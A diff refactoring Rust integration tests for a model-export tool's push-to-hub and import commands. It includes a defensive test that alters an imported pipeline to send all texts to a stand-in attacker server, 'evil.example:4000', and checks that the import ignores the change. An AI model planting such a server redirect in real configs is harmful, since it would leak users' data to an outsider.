@@ -1,9 +1,9 @@
 //! Exports pushed to a hub on loopback, and imported by a user who has only the model.
 
 use std::fs;
-use std::process::{Command, Output};
+use std::process::Command;
 
-use sepal_integration_tests::fixture::{Fixture, combined_output, stdout};
+use sepal_integration_tests::fixture::{Fixture, combined_output, failure_messages, stdout};
 use sepal_testkit::hub::{LoopbackHub, TOKEN};
 use serde_json::Value;
 
@@ -13,10 +13,6 @@ fn other_user(fixture: &Fixture, hub: &LoopbackHub, args: &[&str]) -> Command {
     command.env("HF_ENDPOINT", hub.endpoint()).env("HF_HUB_OFFLINE", "0").env("HF_TOKEN", TOKEN);
     command.env("SEPAL_CACHE", fixture.path("other/sepal")).env("HF_HUB_CACHE", fixture.path("other/hub"));
     command
-}
-
-fn run(mut command: Command) -> Output {
-    command.output().expect("sepal runs")
 }
 
 #[test]
@@ -30,21 +26,17 @@ fn pushed_classifier_predicts_on_another_machine() {
     assert!(fs::read_to_string(trained.folder.join("manifest.json")).expect("a manifest").contains(&folder_path));
     let folder = trained.folder.to_str().expect("a path");
     let hub = LoopbackHub::new([]);
-
     // The tiny model is in a local folder, which others cannot load.
     combined_output(fixture.sepal(&["export", "peft", folder, "export"]));
-    let refused = run(other_user(&fixture, &hub, &["push", "export", "hub:me/reviews"]));
-    let messages = String::from_utf8_lossy(&refused.stderr).into_owned();
-    assert!(!refused.status.success() && messages.contains("--base-model OWNER/NAME"), "{messages}");
+    let messages = failure_messages(other_user(&fixture, &hub, &["push", "export", "hub:me/reviews"]));
+    assert!(messages.contains("--base-model OWNER/NAME"), "{messages}");
 
     let args = ["export", "peft", folder, "export", "--base-model", "me/tiny", "--overwrite"];
     combined_output(fixture.sepal(&args));
     fs::write(fixture.path("export/notes.txt"), "mine").expect("written");
     let messages = combined_output(other_user(&fixture, &hub, &["push", "export", "hub:me/reviews", "--private"]));
-    assert!(
-        messages.contains("names no licence") && messages.contains("left out, as not part of an export: notes.txt"),
-        "{messages}"
-    );
+    assert!(messages.contains("names no licence"), "{messages}");
+    assert!(messages.contains("left out, as not part of an export: notes.txt"), "{messages}");
     assert!(messages.contains("pushed README.md, adapter_config.json,"), "{messages}");
     assert!(hub.is_private());
     let pushed = hub.files();
@@ -62,7 +54,6 @@ fn pushed_classifier_predicts_on_another_machine() {
     let again = combined_output(other_user(&fixture, &hub, &["push", "export", "hub:me/reviews"]));
     assert!(again.contains("nothing was pushed"), "{again}");
     assert_eq!(hub.commits().len(), 1);
-
     // Paths of the exporting machine do not exist here.
     fs::create_dir(fixture.path("elsewhere")).expect("a folder");
     let mut import = other_user(&fixture, &hub, &["import", "peft", "hub:me/reviews", "classifier"]);
@@ -95,11 +86,8 @@ fn imported_pipeline_cannot_redirect_the_swarm() {
     let pipeline = honest["run"]["pipeline"].as_str().expect("a pipeline").to_owned();
     assert!(pipeline.contains("use: embedded"), "{pipeline}");
     // This pipeline would send all texts to its author.
-    with(
-        &pipeline
-            .replace("use: embedded", "use: static")
-            .replace("tape_budget_mb: 4096", "servers: ['evil.example:4000']"),
-    );
+    let redirected = pipeline.replace("use: embedded", "use: static");
+    with(&redirected.replace("tape_budget_mb: 4096", "servers: ['evil.example:4000']"));
     let changed = fs::read_to_string(&side).expect("a file");
     assert!(changed.contains("evil.example"), "{changed}");
     combined_output(fixture.sepal(&["import", "peft", "export", "imported"]));
@@ -108,10 +96,8 @@ fn imported_pipeline_cannot_redirect_the_swarm() {
     // An invalid run is left out with a note.
     with("nonsense: 1");
     let messages = combined_output(fixture.sepal(&["import", "peft", "export", "alone"]));
-    assert!(
-        messages.contains("the adapter is imported without its run") && messages.contains("nonsense"),
-        "{messages}"
-    );
+    assert!(messages.contains("the adapter is imported without its run"), "{messages}");
+    assert!(messages.contains("nonsense"), "{messages}");
     assert!(fixture.path("alone/adapter.safetensors").is_file() && !fixture.path("alone/pipeline.yaml").exists());
 }
 
@@ -120,16 +106,13 @@ fn push_without_an_export_is_refused() {
     let fixture = Fixture::new("llama-gqa");
     let hub = LoopbackHub::new([]);
     fs::create_dir(fixture.path("folder")).expect("a folder");
+    let no_export = "not an exported folder (README.md is missing); `sepal export peft` writes one";
     for (args, part) in [
-        (
-            ["push", "folder", "hub:me/x"],
-            "not an exported folder (README.md is missing); `sepal export peft` writes one",
-        ),
+        (["push", "folder", "hub:me/x"], no_export),
         (["push", "folder", "me/x"], "it is not a repository of the hub; use hub:OWNER/NAME"),
     ] {
-        let output = run(other_user(&fixture, &hub, &args));
-        let messages = String::from_utf8_lossy(&output.stderr).into_owned();
-        assert!(!output.status.success() && messages.contains(part), "{messages}");
+        let messages = failure_messages(other_user(&fixture, &hub, &args));
+        assert!(messages.contains(part), "{messages}");
     }
     assert!(hub.commits().is_empty());
 }
